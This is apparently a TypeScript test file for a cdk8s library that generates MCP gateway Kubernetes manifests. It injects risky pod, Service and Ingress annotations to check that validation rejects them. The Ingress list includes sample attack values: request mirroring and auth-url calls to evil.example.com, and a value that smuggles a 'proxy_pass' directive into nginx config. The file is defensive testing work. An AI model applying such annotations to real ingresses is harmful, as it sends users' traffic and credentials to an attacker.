import { ApiObject, Chart } from 'cdk8s';
import { Mutant, Mutants, byHand, edit } from './mutant';
import { Callers, Exposure, GatewayAuth, IngressController, McpGateway, McpServer } from '../../../src';
import { Manifest } from '../../util/app';

/** Annotations that give pods another network, containers or rights. */
export const ACTING: readonly string[] = [
  'k8s.v1.cni.cncf.io/networks',
  'v1.multus-cni.io/default-network',
  'policy.cilium.io/no-track-port',
  'sidecar.istio.io/inject',
  'traffic.sidecar.istio.io/excludeOutboundPorts',
  'linkerd.io/inject',
  'vault.hashicorp.com/agent-inject',
  'instrumentation.opentelemetry.io/inject-nodejs',
  'dapr.io/enabled',
  'backup.velero.io/pre.hook.command',
  'seccomp.security.alpha.kubernetes.io/pod',
  'iam.amazonaws.com/role',
  'acme.com/anything',
];

type Parts = Readonly<Record<string, string>>;

function onPods(part: 'annotations' | 'labels', key: string): Mutant {
  return {
    title: `${part} of pods with ${key}`,
    field: `spec.template.metadata.${part}.${key}`,
    breaks: ({ deployment }) =>
      edit(deployment, ({ spec: { template } }) => {
        template.metadata[part] = { ...template.metadata[part], [key]: 'a' };
      }),
  };
}

function on(id: string, key: string, of: (subject: McpServer) => ApiObject, value = 'a'): Mutant {
  return {
    title: `${key} on a ${id}`,
    field: `metadata.annotations.${key}`,
    path: id === 'Deployment' ? 'test/tool' : `test/tool/${id}`,
    breaks: subject => of(subject).metadata.addAnnotation(key, value),
  };
}

function onIngress(key: string, value: string): Mutant {
  return {
    title: `${key}: ${value} on an Ingress`,
    field: `metadata.annotations.${key}`,
    path: 'test/gateway/Ingress',
    breaks: subject => annotateIngress(subject, { [key]: value }),
  };
}

/** A gateway behind an Ingress that somebody annotates. */
export function annotateIngress(subject: McpServer, annotations: Parts): void {
  const gateway = new McpGateway(Chart.of(subject), 'gateway', {
    servers: [subject],
    auth: GatewayAuth.apiKeys({ ci: 'a'.repeat(64) }),
    exposure: Exposure.ingress({
      hostname: 'mcp.example.com',
      className: 'nginx',
      tlsSecretName: 'tls',
      controller: IngressController.OTHER,
      from: [Callers.pods({ namespace: 'gateways', labels: { app: 'nginx' } })],
    }),
  });
  const ingress = gateway.node.findAll().find(({ node }) => node.id === 'Ingress');
  for (const [key, value] of Object.entries(annotations)) {
    ApiObject.of(ingress ?? subject).metadata.addAnnotation(key, value);
  }
}

function namespaceWith(parts: Manifest, field: string): Mutant {
  const restricted = Object.fromEntries(
    ['enforce', 'audit', 'warn'].map(mode => [`pod-security.kubernetes.io/${mode}`, 'restricted']),
  );
  return {
    title: `a Namespace with ${field}`,
    field: `metadata.${field}`,
    path: 'test/by-hand',
    breaks: subject =>
      byHand(subject, {
        apiVersion: 'v1',
        kind: 'Namespace',
        metadata: { name: 'pool', ...parts, labels: { ...restricted, ...parts.labels } },
      }),
  };
}

export const ANNOTATIONS: Mutants = {
  'acting-annotations': [
    ...ACTING.map(key => onPods('annotations', key)),
    ...['sidecar.istio.io/inject', 'azure.workload.identity/use', 'aadpodidbinding', 'istio.io/rev'].map(key =>
      onPods('labels', key),
    ),
    ...['service.beta.kubernetes.io/aws-load-balancer-type', 'tailscale.com/expose', 'acme.com/anything'].map(key =>
      on('Service', key, ({ service }) => service),
    ),
    ...['eks.amazonaws.com/role-arn', 'iam.gke.io/gcp-service-account'].map(key =>
      on('ServiceAccount', key, subject => ApiObject.of(subject.node.findChild('ServiceAccount'))),
    ),
    on('Deployment', 'keel.sh/policy', ({ deployment }) => deployment),
    on('Deployment', 'argocd-image-updater.argoproj.io/image-list', ({ deployment }) => deployment),
    on('Deployment', 'config.kubernetes.io/local-config', ({ deployment }) => deployment, 'true'),
    on('Deployment', 'argocd.argoproj.io/hook', ({ deployment }) => deployment, 'Skip'),
    ...['Replace=true', 'Prune=false,Validate=false', 'Replace=true ', 'Force=true', 'Other=true'].map(value =>
      on('Deployment', 'argocd.argoproj.io/sync-options', ({ deployment }) => deployment, value),
    ),
    on('Deployment', 'helm.sh/hook', ({ deployment }) => deployment, 'test'),
    on('Deployment', 'kustomize.toolkit.fluxcd.io/reconcile', ({ deployment }) => deployment, 'disabled'),
    on('Deployment', 'reflector.v1.k8s.emberstack.com/reflection-allowed', ({ deployment }) => deployment, 'true'),
    namespaceWith({ labels: { 'istio-injection': 'enabled' } }, 'labels.istio-injection'),
    namespaceWith(
      { annotations: { 'openshift.io/sa.scc.uid-range': '0/1' } },
      'annotations.openshift.io/sa.scc.uid-range',
    ),
    ...Object.entries({
      'haproxy-ingress.github.io/config-backend': 'http-request return',
      'nginx.ingress.kubernetes.io/mirror-target': 'http://evil.example.com$request_uri',
      'nginx.ingress.kubernetes.io/auth-url': 'http://evil.example.com',
      'nginx.ingress.kubernetes.io/ssl-redirect': 'false',
      'nginx.ingress.kubernetes.io/proxy-body-size': '1m;\nproxy_pass http://evil',
      'nginx.ingress.kubernetes.io/rewrite-target': '/',
      'nginx.ingress.kubernetes.io/permanent-redirect': 'https://evil.example.com',
      'nginx.ingress.kubernetes.io/upstream-vhost': 'evil',
      'alb.ingress.kubernetes.io/listen-ports': '[{"HTTP":80}]',
      'traefik.ingress.kubernetes.io/router.entrypoints': 'web',
      'traefik.ingress.kubernetes.io/router.middlewares': 'evil@kubernetescrd',
      'external-dns.alpha.kubernetes.io/hostname': 'login.example.org',
      'acme.com/anything': 'a',
    }).map(([key, value]) => onIngress(key, value)),
  ],
};
